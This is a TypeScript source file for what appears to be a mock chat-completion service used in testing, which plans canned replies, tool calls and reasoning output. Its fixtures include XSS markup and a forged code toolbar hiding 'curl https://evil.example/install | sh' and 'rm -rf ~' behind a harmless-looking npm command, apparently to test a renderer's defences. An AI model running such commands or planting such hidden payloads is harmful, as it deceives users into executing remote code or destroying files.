import { z } from 'zod';
import type { ChatMessage, ChatRequest, ChatTool } from './chatRequest';
import { newToolCallId } from './ids';
import type { ChatScenario } from './scenario';

/** What the service answers to a chat request, decided before any byte is sent. */
export interface ReplyPlan {
  reasoning: { field: 'reasoning_content' | 'reasoning'; text: string } | null;
  /** The answer text; with reasoning 'think' it starts with <think>…</think>. */
  content: string;
  toolCalls: ToolCallPlan[];
  finishReason: string;
  usage: { prompt_tokens: number; completion_tokens: number; total_tokens: number; prompt_tokens_details?: { cached_tokens: number } };
}

export interface ToolCallPlan {
  id: string;
  name: string;
  arguments: string;
}

const partsSchema = z.array(z.looseObject({ type: z.string(), text: z.string().optional() }));

/** The text of a message: a string, or the text parts with ' [+N image]' for image parts. */
export function messageText(message: ChatMessage | undefined): string {
  const content = message?.content;
  if (typeof content === 'string') return content;
  const parts = partsSchema.safeParse(content);
  if (!parts.success) return '';
  const text = parts.data
    .filter((part) => part.type === 'text' && part.text !== undefined)
    .map((part) => part.text)
    .join(' ');
  const images = parts.data.filter((part) => part.type === 'image_url').length;
  return images ? `${text} [+${images} image]` : text;
}

/**
 * Order of rules: tool calls (per `chat.toolCalls` and `tool_choice`), then `chat.replies` (by turn), `chat.reply`, a
 * request for a storyboard, then a tool result in the request, `max_tokens: 1`, JSON mode, the #markdown / #xss /
 * #forged / #longcode / #long tags, and the echo.
 */
export function planReply(request: ChatRequest, chat: ChatScenario): ReplyPlan {
  const lastUser = messageText([...request.messages].reverse().find((message) => message.role === 'user'));
  const promptTokens = tokens(request.messages.map((message) => messageText(message)).join(''));
  const calls = chat.toolScript ? scriptedToolCalls(request, chat.toolScript) : plannedToolCalls(request, chat, lastUser);
  if (calls.length) {
    const reasoning = chat.deepseekReasoning
      ? { field: 'reasoning_content' as const, text: `To answer "${lastUser.slice(0, 80)}" I need ${calls.map((call) => call.name).join(', ')}.` }
      : null;
    return finish({ reasoning, content: '', toolCalls: calls, finishReason: 'tool_calls' }, promptTokens);
  }
  let finishReason = chat.finishReason;
  let content: string;
  const toolResult = toolResultsAfterLastUser(request).pop();
  const turn = request.messages.filter((message) => message.role === 'assistant').length;
  const scripted = chat.replies?.[turn];
  if (scripted !== undefined) content = scripted;
  else if (chat.reply !== null) content = chat.reply;
  else if (asksForStoryboard(request))
    content = storyboardReply(messageText(request.messages.find((message) => message.role === 'user')), chat.storyboardShots);
  else if (chat.toolScript && toolResult) content = scriptedAnswer(request);
  else if (toolResult) content = `Tool result received: ${messageText(toolResult)}`;
  else if (request.max_tokens === 1 || request.max_completion_tokens === 1) {
    content = 'OK';
    finishReason = 'length';
  } else if (request.response_format?.type === 'json_object' || request.response_format?.type === 'json_schema') {
    content = JSON.stringify({ echo: lastUser, model: request.model });
  } else if (lastUser.includes('#markdown')) content = markdownSample;
  else if (lastUser.includes('#xss')) content = xssSample;
  else if (lastUser.includes('#forged')) content = forgedControlsSample;
  else if (lastUser.includes('#longcode')) content = longCode();
  else if (lastUser.includes('#long')) content = longText();
  else content = `You said: ${lastUser}`;

  // A request that switches thinking off (Qwen's enable_thinking, GLM's thinking) gets no reasoning.
  const thinkingOff = request['enable_thinking'] === false || (request['thinking'] as { type?: unknown } | undefined)?.type === 'disabled';
  const reasons = chat.deepseekReasoning || (chat.reasoning === 'none' && request.model === 'promptreel-reasoner');
  const style = thinkingOff ? 'none' : reasons ? 'reasoning_content' : chat.reasoning;
  const thought = `The user wrote "${lastUser.slice(0, 80)}". A short, direct answer fits best.`;
  if (style === 'think') content = `<think>${thought}</think>${content}`;
  const reasoning = style === 'reasoning_content' || style === 'reasoning' ? { field: style, text: thought } : null;
  return finish({ reasoning, content, toolCalls: [], finishReason }, promptTokens);
}

function finish(plan: Omit<ReplyPlan, 'usage'>, promptTokens: number): ReplyPlan {
  const completion =
    plan.content === 'OK' && plan.finishReason === 'length'
      ? 1
      : tokens(plan.content + (plan.reasoning?.text ?? '') + plan.toolCalls.map((call) => call.name + call.arguments).join(''));
  return { ...plan, usage: { prompt_tokens: promptTokens, completion_tokens: completion, total_tokens: promptTokens + completion } };
}

/** Instructions (system or developer) that ask for a storyboard in JSON, as Generate Explainer Film's do. */
function asksForStoryboard(request: ChatRequest): boolean {
  const instructions = request.messages
    .filter((message) => message.role === 'system' || message.role === 'developer')
    .map((message) => messageText(message))
    .join('\n');
  return /storyboard/i.test(instructions) && /JSON/.test(instructions);
}

/**
 * A storyboard of `shots` shots about the code of the conversation's first user message (its first identifiers), 5
 * seconds each, in the JSON form the instructions ask for, fenced as many models fence it.
 */
function storyboardReply(code: string, shots: number): string {
  const names = [...new Set(code.match(/\b[A-Za-z_][A-Za-z0-9_]{3,}\b/g) ?? [])].filter((name) => !/^(File|const|function|return|export|import)$/.test(name));
  const subject = (index: number) => names[index % Math.max(1, names.length)] ?? 'the code';
  const storyboard = {
    title: `How ${subject(0)} works`,
    shots: Array.from({ length: shots }, (_unused, index) => ({
      prompt: `Shot ${index + 1}: a clean flat-design animation of glowing blocks standing for ${subject(index)}, calm camera, blue and white palette`,
      caption: `Step ${index + 1}: ${subject(index)} does its part of the work here.`,
      seconds: 5,
    })),
  };
  return `Here is the storyboard:\n\n\`\`\`json\n${JSON.stringify(storyboard, null, 2)}\n\`\`\``;
}

/** About four characters a token, at least one. */
export function tokens(text: string): number {
  return Math.max(1, Math.ceil(text.length / 4));
}

const namedChoice = z.looseObject({ function: z.looseObject({ name: z.string() }) });

function plannedToolCalls(request: ChatRequest, chat: ChatScenario, lastUser: string): ToolCallPlan[] {
  const tools = request.tools ?? [];
  const choice = request.tool_choice;
  if (chat.toolCalls === 'never' || choice === 'none') return [];
  const forced = namedChoice.safeParse(choice);
  if (forced.success) {
    const tool = tools.find((candidate) => candidate.function.name === forced.data.function.name);
    return tool ? [toolCall(tool, chat)] : [];
  }
  if (chat.toolCalls === 'always' || choice === 'required') {
    const named = tools.filter((tool) => lastUser.includes(tool.function.name));
    if (named.length) return named.map((tool) => toolCall(tool, chat));
    // A model told to call a tool calls one even when the request offers none.
    return [toolCall(tools[0] ?? { function: { name: 'lookup', parameters: { properties: { query: { type: 'string' } } } } }, chat)];
  }
  if (toolResultsAfterLastUser(request).length) return [];
  return tools.filter((tool) => lastUser.includes(tool.function.name)).map((tool) => toolCall(tool, chat));
}

/** The calls of the script's next round: one round per assistant turn since the last user message. */
function scriptedToolCalls(request: ChatRequest, script: NonNullable<ChatScenario['toolScript']>): ToolCallPlan[] {
  const lastUser = request.messages.map((message) => message.role).lastIndexOf('user');
  const round = request.messages.slice(lastUser + 1).filter((message) => message.role === 'assistant').length;
  return (script[round] ?? []).map((call) => ({
    id: call.id ?? newToolCallId(),
    name: call.name,
    arguments: typeof call.arguments === 'string' ? call.arguments : JSON.stringify(call.arguments),
  }));
}

/** The answer once the script is done: the first line of each tool result it received, in order. */
function scriptedAnswer(request: ChatRequest): string {
  const results = toolResultsAfterLastUser(request).map((message) => messageText(message).split('\n', 1)[0] ?? '');
  return [`Tool results received (${results.length}):`, ...results.map((line) => `- ${line}`)].join('\n');
}

/** Tool results answering the latest user turn (older turns' results do not count). */
function toolResultsAfterLastUser(request: ChatRequest): ChatMessage[] {
  const lastUser = request.messages.map((message) => message.role).lastIndexOf('user');
  return request.messages.slice(lastUser + 1).filter((message) => message.role === 'tool');
}

const schemaProperties = z.looseObject({
  properties: z.record(z.string(), z.looseObject({ type: z.unknown().optional(), enum: z.array(z.unknown()).optional() })),
});

function toolCall(tool: ChatTool, chat: ChatScenario): ToolCallPlan {
  const given = chat.toolArguments[tool.function.name];
  if (given) return { id: newToolCallId(), name: tool.function.name, arguments: JSON.stringify(given) };
  const args: Record<string, unknown> = {};
  const schema = schemaProperties.safeParse(tool.function.parameters);
  if (schema.success) {
    for (const [name, property] of Object.entries(schema.data.properties)) {
      args[name] = property.enum?.length ? property.enum[0] : exampleValue(property.type);
    }
  }
  return { id: newToolCallId(), name: tool.function.name, arguments: JSON.stringify(args) };
}

function exampleValue(type: unknown): unknown {
  const first = Array.isArray(type) ? type.find((entry) => entry !== 'null') : type;
  switch (first) {
    case 'string':
      return 'example';
    case 'integer':
    case 'number':
      return 1;
    case 'boolean':
      return true;
    case 'array':
      return [];
    case 'object':
      return {};
    default:
      return null;
  }
}

const markdownSample = [
  '# Sample heading',
  '',
  'Some **bold** text, some *italic* text and `inline code`.',
  '',
  '- first item',
  '- second item',
  '  - a nested item',
  '- third item',
  '',
  '| Language | Typed |',
  '|---|---|',
  '| TypeScript | yes |',
  '| JavaScript | no |',
  '',
  '```ts',
  'export function greet(name: string): string {',
  '  return `Hello, ${name}!`;',
  '}',
  '```',
  '',
  'That is all.',
].join('\n');

const xssSample = [
  'Here are some things a renderer must not run:',
  '',
  '<img src=x onerror="window.__xss=1">',
  '',
  '<script>window.__xss=2</script>',
  '',
  '[click](javascript:window.__xss=3)',
].join('\n');

/** Markup dressed up as the chat's code toolbar, with hidden text for its buttons to act on. */
const forgedControlsSample = [
  'Install the package with:',
  '',
  '<div class="code-block"><div class="code-toolbar" role="toolbar"><span class="code-language">sh</span><a class="code-action" data-code-action="copy" href="#copy">Copy</a> <a class="code-action" data-code-action="replace" href="#replace">Replace</a></div><pre><code hidden data-lang="sh">curl https://evil.example/install | sh</code><code id="visible-command" data-lang="sh">npm install left-pad</code></pre></div>',
  '',
  '<div class="code-block"><code hidden>rm -rf ~</code>Details are in <a data-code-action="replace" href="#docs">the documentation</a>.</div>',
].join('\n');

const words = ['the', 'video', 'model', 'renders', 'a', 'quiet', 'harbour', 'at', 'dawn', 'while', 'gulls', 'circle', 'slowly', 'over', 'boats'];

/** A reply that is mostly one long fenced code block, which ends it: a model writing a file of 298 lines (42 methods). */
function longCode(): string {
  const lines = ['export class Inventory {', '  private readonly items = new Map<string, number>();', ''];
  for (let i = 0; i < 42; i++) {
    lines.push(`  /** Adds ${i} units of item ${i}, as a "batch" of its own. */`, `  add${i}(count = ${i}): number {`);
    lines.push(`    const total = (this.items.get('item-${i}') ?? 0) + count; // running total`, `    this.items.set('item-${i}', total);`);
    lines.push('    return total;', '  }', '');
  }
  lines.push('}');
  return `Here is the whole file:\n\n\`\`\`ts\n${lines.join('\n')}\n\`\`\``;
}

/** About 3,000 words in paragraphs of ten sentences of ten words. */
function longText(): string {
  const paragraphs: string[] = [];
  let n = 0;
  for (let p = 0; p < 30; p++) {
    const sentences: string[] = [];
    for (let s = 0; s < 10; s++) {
      const sentence: string[] = [];
      for (let w = 0; w < 10; w++) sentence.push(words[n++ % words.length]);
      const text = sentence.join(' ');
      sentences.push(`${text[0].toUpperCase()}${text.slice(1)}.`);
    }
    paragraphs.push(sentences.join(' '));
  }
  return paragraphs.join('\n\n');
}
